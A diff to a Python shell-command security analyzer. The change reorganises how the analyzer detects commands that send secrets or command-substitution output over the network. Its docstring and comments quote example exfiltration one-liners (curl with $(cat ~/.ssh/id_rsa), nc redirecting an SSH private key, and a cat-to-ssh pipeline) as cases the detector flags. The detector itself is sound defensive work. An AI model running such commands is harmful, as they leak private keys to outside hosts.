@@ -350,15 +350,10 @@ def _secret_words(seg: Segment) -> list[str]:
     return out + [w for w in seg.inputs if _SECRET.search(w)]
 
 
-def _sends(ctx: _Ctx, seg: Segment, start: int) -> None:
+def _sends(ctx: _Ctx, seg: Segment) -> None:
     """What a command that talks to the network can send away: the output of a command
     substitution in its arguments (``curl "https://x/?k=$(cat ~/.ssh/id_rsa)"``), or a secret
     file named in its arguments or redirected into it (``nc host 80 < ~/.ssh/id_rsa``)."""
-    caps = 0
-    for part in ctx.parts[start:]:
-        caps |= part[4]
-    if not caps & _NET:
-        return
     if seg.subst:
         why = "sends the output of a command substitution over the network"
         ctx.add(seg.text, "pipeline", "substitution->network", _H, _NET, why)
@@ -391,7 +386,7 @@ def _text(ctx: _Ctx, text: str, depth: int) -> None:
         return
     if "(" in text and "{" in text:
         _recursion(ctx, text)
-    if "'" in text:
+    if "'" in text and ("$(" in text or "`" in text):
         _reevaluated(ctx, text)
     parsed = parse(text)
     if parsed.errors:
@@ -408,13 +403,20 @@ def _text(ctx: _Ctx, text: str, depth: int) -> None:
             _env(ctx, seg.text, seg.env, command=bool(seg.words))
         start = len(ctx.parts)
         _command(ctx, seg, seg.words, depth)
+        net = False
+        for part in ctx.parts[start:]:
+            if part[4] & _NET:
+                net = True
+                break
+        if not net and seg.pipe < 0:  # most parts: nothing can leave the machine here
+            continue
         hinted = _SECRET_HINT.search(seg.text) is not None
-        if seg.subst or seg.inputs or hinted:
-            _sends(ctx, seg, start)
+        if net and (seg.subst or seg.inputs or hinted):
+            _sends(ctx, seg)
         if seg.pipe >= 0:
             if hinted and _secret_words(seg):
                 secret_stage.setdefault(seg.pipe, seg.stage)
-            if any(part[4] & _NET for part in ctx.parts[start:]):
+            if net:
                 net_stages.setdefault(seg.pipe, []).append(seg.stage)
     for pipe, stage in secret_stage.items():  # cat ~/.ssh/id_rsa | ssh host cat
         if any(later > stage for later in net_stages.get(pipe, ())):
